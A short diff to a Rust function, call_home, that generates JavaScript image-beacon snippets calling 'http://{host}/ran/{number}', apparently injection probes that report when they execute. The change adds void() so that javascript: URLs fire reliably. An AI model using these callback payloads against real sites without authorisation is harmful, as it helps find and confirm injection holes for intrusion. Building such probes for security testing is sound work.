@@ -65,7 +65,8 @@ fn call_home(host: &str, part: &str) -> String {
     for piece in pieces {
         let digits = piece.chars().take_while(char::is_ascii_digit).count();
         let (number, rest) = piece.split_at(digits);
-        let _ = write!(out, "new(Image)().src='http://{host}/ran/{number}'{rest}");
+        // Without `void` a `javascript:` address makes a document of the text, and the picture may never be asked for.
+        let _ = write!(out, "void(new(Image)().src='http://{host}/ran/{number}'){rest}");
     }
     out
 }
